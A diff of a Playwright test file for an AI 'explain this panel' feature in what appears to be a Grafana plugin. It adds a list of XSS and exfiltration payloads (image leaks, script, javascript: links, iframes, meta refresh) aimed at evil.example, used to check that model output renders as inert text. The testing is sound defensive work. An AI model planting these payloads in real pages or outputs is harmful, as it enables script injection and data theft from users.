@@ -53,16 +53,45 @@ def test_it_tells_and_links_each_figure_to_its_fact(
     assert page.evaluate("document.documentElement.dataset.react")[:2] == ("19" if every_host.name == "own" else "18")
 
 
-def test_what_a_model_writes_stays_text(visiting: Visiting, host: Path, service: tuple[Service, str]) -> None:
-    visitor = visiting(host, service[1])
+ATTACKS = (
+    "![x](http://evil.example/a.png?leak=27)",
+    "<img src=http://evil.example/b.png onerror=\"document.title='owned'\">",
+    "<iframe src=http://evil.example/c></iframe>",
+    "<script>document.title='owned'</script>",
+    "<svg/onload=\"document.title='owned'\">",
+    "<link rel=stylesheet href=http://evil.example/d.css>",
+    "<style>@import url(http://evil.example/e.css)</style>",
+    "[press](javascript:document.title='owned')",
+    "<a href=\"javascript:document.title='owned'\">press</a>",
+    "[open](data:text/html,<script>document.title='owned'</script>)",
+    "<a href=http://evil.example/f>here</a> http://evil.example/g //evil.example/h",
+    "<form action=http://evil.example/i><button>send</button></form>",
+    "<object data=http://evil.example/j></object><embed src=http://evil.example/k>",
+    "<video poster=http://evil.example/l><audio src=http://evil.example/m autoplay>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/n'>",
+)
+
+
+def test_what_a_model_writes_loads_nothing_and_leads_nowhere(
+    visiting: Visiting, host: Path, service: tuple[Service, str]
+) -> None:
+    state, address = service
+    state.pause, state.text = 0.0, "\n".join(ATTACKS)
+    visitor = visiting(host, address)
     page = visitor.open()
+    title = page.title()
     start(page)
-    expect(page.get_by_test_id("answer")).to_contain_text(
-        "<img src=http://evil.example/x.png> [a](http://evil.example)"
-    )
     expect(page.get_by_test_id("verdict")).to_be_visible()
-    assert page.get_by_test_id("answer").locator("a, img, iframe, script").count() == 0
-    assert not [url for url in visitor.asked if "evil" in url]
+    answer = page.get_by_test_id("answer")
+    for attack in ATTACKS:
+        expect(answer).to_contain_text(attack)
+    assert answer.locator(":not(span):not(br)").count() == 0  # words alone
+    for word in ("press", "here", "open", "send"):
+        answer.get_by_text(word).first.click()
+    page.wait_for_load_state("networkidle")
+    assert page.title() == title
+    assert [url for url in visitor.asked if not url.startswith((visitor.base, "data:"))] == []
+    assert visitor.said == []
 
 
 def test_words_come_as_they_are_told_and_stop_reaches_the_service(
@@ -150,6 +179,8 @@ def test_thumbs_history_and_a_question(visiting: Visiting, host: Path, service: 
     page.get_by_role("button", name="History").click()
     page.get_by_test_id("history").get_by_role("button").click()
     expect(page.get_by_test_id("answer")).to_have_text("Two errors at noon.")
+    page.get_by_test_id("answer").get_by_role("button", name="Two").click()
+    expect(page.locator("tr[aria-current=true]")).to_have_attribute("data-fact", "level-1")
     page.get_by_role("combobox", name="Analysis").click()
     page.get_by_role("option", name="A question").click()
     expect(page.get_by_role("button", name="Explain", exact=True)).to_be_disabled()
@@ -172,6 +203,23 @@ def test_the_menu_of_any_panel_explains_it(visiting: Visiting, host: Path, servi
     nothing = visitor.open("menu", data="none")
     nothing.get_by_role("button", name="Explain this panel").click()
     expect(nothing.get_by_text("This panel has no data yet.")).to_be_visible()
+
+
+def test_a_model_that_sees_is_given_grafanas_own_picture(
+    visiting: Visiting, every_host: Path, service: tuple[Service, str]
+) -> None:
+    state, address = service
+    page = visiting(every_host, address).open("menu")
+    page.get_by_role("button", name="Explain this panel").click()
+    dialog = page.get_by_role("dialog")
+    for number, model in enumerate(("moondream", "smollm2"), 1):
+        dialog.get_by_role("combobox", name="Model").click()
+        page.get_by_role("option", name=model).click()
+        dialog.get_by_role("button", name="Explain", exact=True).click()
+        expect(dialog.get_by_test_id("verdict")).to_be_visible()
+        expect(dialog.get_by_role("button", name="Explain", exact=True)).to_be_enabled()
+        assert len(state.seen) == number
+    assert [one.get("image", "")[:26] for one in state.seen] == ["data:image/png;base64,iVBO", ""]
 
 
 def test_the_option_for_the_model_lists_what_the_service_has(
